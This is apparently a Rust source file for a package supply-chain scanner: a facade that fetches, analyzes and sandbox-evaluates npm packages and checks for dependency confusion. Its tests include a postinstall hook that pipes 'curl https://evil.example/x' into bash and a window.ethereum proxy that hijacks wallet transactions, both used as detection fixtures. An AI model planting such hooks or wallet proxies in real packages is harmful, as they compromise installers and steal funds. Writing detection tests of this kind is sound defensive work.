//! # Scanner facade
//!
//! Wires the Target Resolver, Artifact Fetcher, Analyzer Suite, Sandboxed
//! Evaluator, Dependency-Confusion Analyzer, IoC Aggregator, Scheduler, and
//! Result Aggregator into the single entry point `scanner-cli` drives.

use std::collections::HashMap;
use std::path::Path;
use std::sync::Arc;
use std::time::Instant;

use scanner_analyzers::AnalyzerSuite;
use scanner_core::{CancellationToken, PackageRef, ScanConfig, ScanError, ScanMetadata, ScanResult, Threat};
use scanner_monitor::SandboxedEvaluator;
use scanner_registry::{Cache, DependencyConfusionAnalyzer, RepoHistory};

use crate::aggregator::{PerformanceInputs, ResultAggregator};
use crate::error::PipelineError;
use crate::fetcher::ArtifactFetcher;
use crate::ioc::IoCAggregator;
use crate::scheduler::Scheduler;
use crate::target::{TargetMode, TargetResolver, WorkItem};

pub struct Scanner {
    config: ScanConfig,
    analyzer_suite: AnalyzerSuite,
    evaluator: SandboxedEvaluator,
    confusion: DependencyConfusionAnalyzer,
    cancellation: CancellationToken,
    ioc_cache: Arc<Cache<Vec<crate::ioc::IoCRecord>>>,
}

impl Scanner {
    #[must_use]
    pub fn new(config: ScanConfig) -> Self {
        let analyzer_suite = AnalyzerSuite::with_default_rules(config.allowlist.clone());
        let evaluator = SandboxedEvaluator::new(config.sandbox.clone());
        let confusion = DependencyConfusionAnalyzer::new(config.allowlist.packages.clone());
        let ioc_cache = Arc::new(Cache::new(&config.cache));
        Self {
            config,
            analyzer_suite,
            evaluator,
            confusion,
            cancellation: CancellationToken::new(),
            ioc_cache,
        }
    }

    #[must_use]
    pub fn cancellation_token(&self) -> CancellationToken {
        self.cancellation.clone()
    }

    /// Runs a full scan against `target`. Only `ScanError::Configuration`
    /// and `ScanError::Fatal` are returned as an `Err`; every other failure
    /// mode degrades to a threat or a performance counter, per §7.
    pub async fn scan(&self, target: &str) -> Result<ScanResult, ScanError> {
        let start = Instant::now();
        let started_at = chrono::Utc::now().to_rfc3339();

        let work_set = TargetResolver::resolve(target, &self.config).map_err(ScanError::from)?;

        let mut threats = Vec::new();
        let mut network_requests = 0u64;
        let mut packages_scanned: u64;
        let mut dependency_threats: HashMap<(String, String), Vec<Threat>> = HashMap::new();

        match work_set.mode {
            TargetMode::Registry => {
                let fetcher = ArtifactFetcher::new(&self.config.registry_base_url, self.config.network.timeout_secs);
                let (name, version) = split_registry_target(target);
                packages_scanned = 1;

                match self.fetch_and_scan_package(&fetcher, &name, &version).await {
                    Ok(package_threats) => threats.extend(package_threats),
                    Err(threat) => threats.push(threat),
                }
                network_requests += 1;

                if self.config.ioc_enabled {
                    let aggregator = self.ioc_aggregator();
                    let ioc_threats = aggregator.query(&name, &version).await;
                    network_requests += aggregator.network_requests();
                    threats.extend(ioc_threats);
                }
            }
            TargetMode::ManifestDir | TargetMode::RawDir | TargetMode::File => {
                packages_scanned = u64::from(work_set.manifest.is_some());

                if let Some((manifest_path, raw)) = &work_set.manifest {
                    let manifest_path_str = manifest_path.display().to_string();

                    if let Ok(manifest_json) = serde_json::from_str::<serde_json::Value>(raw) {
                        let package = manifest_package_ref(&manifest_json, &manifest_path_str);
                        threats.extend(scanner_analyzers::ManifestAnalyzer::analyze(&package, &manifest_path_str, raw));

                        let deps = declared_dependencies(&manifest_json, self.config.include_dev);
                        let registry_fetcher = ArtifactFetcher::new(&self.config.registry_base_url, self.config.network.timeout_secs);

                        let mut confusion_threats: HashMap<(String, String), Vec<Threat>> = HashMap::new();
                        for (dep_name, dep_version) in &deps {
                            let registry_created_at = registry_fetcher.fetch_created_at(dep_name).await;
                            network_requests += 1;
                            let repo_history = local_repo_history(manifest_path, dep_name);
                            let confusion_input = scanner_registry::DependencyConfusionInput {
                                name: dep_name.clone(),
                                version: dep_version.clone(),
                                registry_created_at,
                                registry_confirmed_present: true,
                                repo_history,
                            };
                            let dep_threats = self.confusion.analyze(&confusion_input);
                            if !dep_threats.is_empty() {
                                confusion_threats.insert((dep_name.clone(), dep_version.clone()), dep_threats);
                            }
                        }

                        let ioc_threats = if self.config.ioc_enabled && !deps.is_empty() {
                            let aggregator = self.ioc_aggregator();
                            let results = aggregator.query_many(&deps).await;
                            network_requests += aggregator.network_requests();
                            results
                        } else {
                            HashMap::new()
                        };

                        for (dep_name, dep_version) in deps {
                            let key = (dep_name, dep_version);
                            let mut dep_threats = confusion_threats.remove(&key).unwrap_or_default();
                            if let Some(ioc) = ioc_threats.get(&key) {
                                dep_threats.extend(ioc.clone());
                            }
                            if !dep_threats.is_empty() {
                                dependency_threats.insert(key, dep_threats.clone());
                            }
                            threats.extend(dep_threats);
                            packages_scanned += 1;
                        }
                    }
                }

                let analyzable_items: Vec<WorkItem> = work_set.items.iter().filter(|item| item.analyzable).cloned().collect();
                let analyzer_suite = self.analyzer_suite_handle();
                let evaluator = self.evaluator.clone();
                let scheduler = Scheduler::new(self.config.workers.resolve(num_cpus_hint()), self.config.parallel);
                let scheduled = scheduler.run(analyzable_items, &self.cancellation, move |item| {
                    Self::analyze_one(&analyzer_suite, &evaluator, item)
                });
                threats.extend(scheduled);
            }
        }

        let files_skipped = work_set.files_skipped;
        let bytes_scanned = work_set.bytes_scanned;
        let files_scanned = work_set.items.len() as u64;
        let duration_ms = start.elapsed().as_millis() as u64;
        let errors = threats
            .iter()
            .filter(|t| matches!(t.kind, scanner_core::ThreatKind::AnalysisError | scanner_core::ThreatKind::TarballError))
            .count() as u64;

        let metadata = ScanMetadata { target: target.to_string(), started_at, extra: HashMap::new() };

        let result = ResultAggregator::aggregate(
            threats,
            packages_scanned,
            files_scanned,
            duration_ms,
            self.config.tree_show,
            &metadata.target,
            "",
            dependency_threats,
            PerformanceInputs {
                cache: self.ioc_cache.stats(),
                network_requests,
                errors,
                files_skipped,
                bytes_scanned,
            },
            metadata,
        );

        Ok(result)
    }

    async fn fetch_and_scan_package(&self, fetcher: &ArtifactFetcher, name: &str, version: &str) -> Result<Vec<Threat>, Threat> {
        let metadata = fetcher
            .fetch_metadata(name, version)
            .await
            .map_err(|e| analysis_error_threat(name, version, &e.to_string()))?;
        let bytes = fetcher
            .fetch_archive(&metadata)
            .await
            .map_err(|e| tarball_error_threat(name, version, &e.to_string()))?;

        let mut threats = Vec::new();
        if let Some(declared_digest) = &metadata.shasum {
            let artifact = scanner_core::Artifact::for_registry_package(name, version, &bytes);
            if let Some(threat) = scanner_analyzers::IntegrityAnalyzer::verify_digest(&artifact.package, &artifact.fingerprint, declared_digest) {
                threats.push(threat);
            }
        }

        let extracted = fetcher.extract(&bytes).map_err(|e| match e {
            PipelineError::PathEscape(entry) => ArtifactFetcher::path_escape_threat(&PackageRef::named(name, version), &entry),
            other => tarball_error_threat(name, version, &other.to_string()),
        })?;
        threats.extend(self.scan_extracted_tree(extracted.path(), name, version));
        Ok(threats)
    }

    fn scan_extracted_tree(&self, root: &std::path::Path, name: &str, version: &str) -> Vec<Threat> {
        let package = PackageRef::named(name, version);
        let mut threats = Vec::new();
        let mut stack = vec![root.to_path_buf()];
        while let Some(dir) = stack.pop() {
            let Ok(entries) = std::fs::read_dir(&dir) else { continue };
            for entry in entries.flatten() {
                let path = entry.path();
                if path.is_dir() {
                    stack.push(path);
                    continue;
                }
                let Ok(bytes) = std::fs::read(&path) else { continue };
                if bytes.len() as u64 > self.config.max_file_size_bytes {
                    continue;
                }
                let ext = path.extension().and_then(|e| e.to_str()).unwrap_or_default();
                if !matches!(ext, "js" | "mjs" | "cjs" | "ts" | "tsx" | "jsx") {
                    continue;
                }
                let content = String::from_utf8_lossy(&bytes).into_owned();
                let label = path.strip_prefix(root).unwrap_or(&path).display().to_string();
                let artifact = scanner_core::Artifact {
                    package: package.clone(),
                    kind: scanner_core::ArtifactKind::RegistryPackage,
                    path: Some(path.clone()),
                    size_bytes: bytes.len() as u64,
                    fingerprint: scanner_core::Fingerprint::of_bytes(&bytes),
                    content_kind: scanner_core::ContentKind::Source,
                };
                threats.extend(self.analyzer_suite.analyze_artifact(&artifact, &label, &content));
                if !SandboxedEvaluator::is_bypassed(&label) {
                    let outcome = self.evaluator.evaluate(&label, &bytes);
                    threats.extend(outcome.threats);
                }
            }
        }
        threats
    }

    fn analyze_one(analyzer_suite: &AnalyzerSuite, evaluator: &SandboxedEvaluator, item: &WorkItem) -> Vec<Threat> {
        let Some(content) = &item.content else { return Vec::new() };
        let label = item
            .artifact
            .path
            .as_ref()
            .map(|p| p.display().to_string())
            .unwrap_or_else(|| item.artifact.package.canonical());
        let mut threats = analyzer_suite.analyze_artifact(&item.artifact, &label, content);
        if !SandboxedEvaluator::is_bypassed(&label) {
            let outcome = evaluator.evaluate(&label, content.as_bytes());
            threats.extend(outcome.threats);
        }
        threats
    }

    fn ioc_cache_handle(&self) -> Arc<Cache<Vec<crate::ioc::IoCRecord>>> {
        Arc::clone(&self.ioc_cache)
    }

    fn ioc_aggregator(&self) -> IoCAggregator {
        IoCAggregator::new(&self.config.ioc_providers, self.config.ioc_budget, self.ioc_cache_handle(), &self.config.network)
    }

    fn analyzer_suite_handle(&self) -> AnalyzerSuite {
        AnalyzerSuite::with_default_rules(self.config.allowlist.clone())
    }
}

fn num_cpus_hint() -> usize {
    std::thread::available_parallelism().map(std::num::NonZeroUsize::get).unwrap_or(4)
}

fn split_registry_target(target: &str) -> (String, String) {
    match target.rsplit_once('@') {
        Some((name, version)) if !name.is_empty() => (name.to_string(), version.to_string()),
        _ => (target.to_string(), "latest".to_string()),
    }
}

/// Attributes manifest-level threats to the package's declared name/version
/// rather than its filesystem path, per spec §8's "package = manifest-name"
/// expectation; falls back to the manifest's path when `name` is absent.
fn manifest_package_ref(manifest: &serde_json::Value, manifest_path: &str) -> PackageRef {
    match manifest.get("name").and_then(serde_json::Value::as_str) {
        Some(name) => {
            let version = manifest.get("version").and_then(serde_json::Value::as_str).unwrap_or("0.0.0");
            PackageRef::named(name, version)
        }
        None => PackageRef::file(manifest_path.to_string()),
    }
}

/// Looks for commits that touched `dependency_name` in the manifest's text,
/// via `git log -S<name>`, to source the dependency-confusion Activity and
/// Timeline signals' local-history half. `None` when the manifest isn't
/// inside a git working tree, git isn't on `PATH`, or the name never
/// appears in the manifest's history.
fn local_repo_history(manifest_path: &Path, dependency_name: &str) -> Option<RepoHistory> {
    let dir = manifest_path.parent()?;
    let file_name = manifest_path.file_name()?;
    let output = std::process::Command::new("git")
        .arg("-C")
        .arg(dir)
        .arg("log")
        .arg("--format=%cI")
        .arg(format!("-S{dependency_name}"))
        .arg("--")
        .arg(file_name)
        .output()
        .ok()?;
    if !output.status.success() {
        return None;
    }

    let mut timestamps: Vec<chrono::DateTime<chrono::Utc>> = String::from_utf8_lossy(&output.stdout)
        .lines()
        .filter_map(|line| chrono::DateTime::parse_from_rfc3339(line.trim()).ok())
        .map(|dt| dt.with_timezone(&chrono::Utc))
        .collect();
    if timestamps.is_empty() {
        return None;
    }
    timestamps.sort();

    Some(RepoHistory { earliest_commit_referencing: timestamps.first().copied(), commits_touching: timestamps.len() as u64 })
}

fn declared_dependencies(manifest: &serde_json::Value, include_dev: bool) -> Vec<(String, String)> {
    let mut out = Vec::new();
    let mut fields = vec!["dependencies"];
    if include_dev {
        fields.push("devDependencies");
    }
    for field in fields {
        if let Some(deps) = manifest.get(field).and_then(serde_json::Value::as_object) {
            for (name, spec) in deps {
                if let Some(spec) = spec.as_str() {
                    out.push((name.clone(), spec.trim_start_matches(['^', '~']).to_string()));
                }
            }
        }
    }
    out
}

fn analysis_error_threat(name: &str, version: &str, details: &str) -> Threat {
    Threat::new(
        scanner_core::ThreatKind::AnalysisError,
        scanner_core::Severity::Low,
        0.3,
        format!("could not fetch metadata for {name}@{version}"),
        PackageRef::named(name, version),
    )
    .with_details(details)
}

fn tarball_error_threat(name: &str, version: &str, details: &str) -> Threat {
    Threat::new(
        scanner_core::ThreatKind::TarballError,
        scanner_core::Severity::Low,
        0.3,
        format!("could not fetch or extract the archive for {name}@{version}"),
        PackageRef::named(name, version),
    )
    .with_details(details)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn split_registry_target_parses_name_and_version() {
        assert_eq!(split_registry_target("lodash@4.17.20"), ("lodash".to_string(), "4.17.20".to_string()));
        assert_eq!(split_registry_target("lodash"), ("lodash".to_string(), "latest".to_string()));
    }

    #[test]
    fn declared_dependencies_reads_semver_ranges() {
        let manifest = serde_json::json!({"dependencies": {"lodash": "^4.17.20"}});
        let deps = declared_dependencies(&manifest, false);
        assert_eq!(deps, vec![("lodash".to_string(), "4.17.20".to_string())]);
    }

    #[test]
    fn dev_dependencies_are_excluded_by_default() {
        let manifest = serde_json::json!({"devDependencies": {"jest": "^29.0.0"}});
        let deps = declared_dependencies(&manifest, false);
        assert!(deps.is_empty());
    }

    #[tokio::test]
    async fn clean_directory_target_produces_no_threats() {
        let dir = tempfile::tempdir().unwrap();
        std::fs::write(dir.path().join("index.js"), r#"function hello() { return "world"; }"#).unwrap();
        let scanner = Scanner::new(ScanConfig::default().with_ioc_enabled(false));
        let result = scanner.scan(dir.path().to_str().unwrap()).await.unwrap();
        assert!(result.threats.is_empty());
        assert_eq!(result.performance.errors, 0);
    }

    #[tokio::test]
    async fn obfuscated_wallet_hook_produces_expected_threats() {
        let dir = tempfile::tempdir().unwrap();
        let src = "window.ethereum = new Proxy(window.ethereum, handler);\nwindow.ethereum.request({method: 'eth_sendTransaction', params: [tx]});\n";
        std::fs::write(dir.path().join("hook.js"), src).unwrap();
        let scanner = Scanner::new(ScanConfig::default().with_ioc_enabled(false));
        let result = scanner.scan(dir.path().to_str().unwrap()).await.unwrap();
        assert!(result.threats.iter().any(|t| t.kind == scanner_core::ThreatKind::WalletHijacking));
        assert!(result.threats.iter().any(|t| t.kind == scanner_core::ThreatKind::NetworkManipulation));
    }

    #[tokio::test]
    async fn suspicious_postinstall_script_is_flagged() {
        let dir = tempfile::tempdir().unwrap();
        std::fs::write(
            dir.path().join("package.json"),
            r#"{"name":"evil-pkg","version":"1.0.0","scripts":{"postinstall":"curl https://evil.example/x | bash"}}"#,
        )
        .unwrap();
        let scanner = Scanner::new(ScanConfig::default().with_ioc_enabled(false));
        let result = scanner.scan(dir.path().to_str().unwrap()).await.unwrap();
        let threat = result.threats.iter().find(|t| t.kind == scanner_core::ThreatKind::SuspiciousScript).unwrap();
        assert_eq!(threat.package.canonical(), "evil-pkg@1.0.0");
        assert!(threat.file_path.as_deref().unwrap().ends_with("package.json"));
    }

    #[test]
    fn manifest_package_ref_prefers_declared_name() {
        let manifest = serde_json::json!({"name": "evil-pkg", "version": "1.0.0"});
        assert_eq!(manifest_package_ref(&manifest, "package.json").canonical(), "evil-pkg@1.0.0");
    }

    #[test]
    fn manifest_package_ref_falls_back_to_path_without_a_name() {
        let manifest = serde_json::json!({});
        assert_eq!(manifest_package_ref(&manifest, "package.json").canonical(), "package.json");
    }

    #[tokio::test]
    async fn target_not_found_surfaces_as_configuration_error() {
        let scanner = Scanner::new(ScanConfig::default());
        let err = scanner.scan("./does/not/exist.js").await;
        assert!(matches!(err, Err(ScanError::Configuration(_))));
    }

    fn run_git(dir: &std::path::Path, args: &[&str]) {
        let status = std::process::Command::new("git").args(args).current_dir(dir).status().unwrap();
        assert!(status.success(), "git {args:?} failed");
    }

    /// End-to-end coverage for the dependency-confusion Timeline signal
    /// through `Scanner::scan()` itself: a manifest dependency committed
    /// locally on the same day the (mocked) registry reports the package
    /// as created should surface `DEPENDENCY_CONFUSION_TIMELINE`.
    #[tokio::test]
    async fn dependency_confusion_timeline_fires_through_scan() {
        let dir = tempfile::tempdir().unwrap();
        run_git(dir.path(), &["init"]);
        run_git(dir.path(), &["config", "user.email", "test@example.com"]);
        run_git(dir.path(), &["config", "user.name", "test"]);
        std::fs::write(dir.path().join("package.json"), r#"{"name":"app","version":"1.0.0","dependencies":{"acme-internal":"0.0.1"}}"#).unwrap();
        run_git(dir.path(), &["add", "."]);
        std::process::Command::new("git")
            .args(["commit", "-m", "add dep", "--date", "2024-01-01T00:00:00"])
            .current_dir(dir.path())
            .env("GIT_COMMITTER_DATE", "2024-01-01T00:00:00")
            .status()
            .unwrap();

        let server = wiremock::MockServer::start().await;
        wiremock::Mock::given(wiremock::matchers::method("GET"))
            .respond_with(wiremock::ResponseTemplate::new(200).set_body_json(serde_json::json!({
                "time": {"created": "2024-01-01T06:00:00Z"}
            })))
            .mount(&server)
            .await;

        let config = ScanConfig::default().with_ioc_enabled(false).with_registry_base_url(server.uri());
        let scanner = Scanner::new(config);
        let result = scanner.scan(dir.path().to_str().unwrap()).await.unwrap();

        let timeline = result.threats.iter().find(|t| t.kind == scanner_core::ThreatKind::DependencyConfusionTimeline);
        assert!(timeline.is_some(), "expected a dependency confusion timeline threat, got {:?}", result.threats);
        assert!(matches!(timeline.unwrap().severity, scanner_core::Severity::Critical | scanner_core::Severity::High));
    }
}
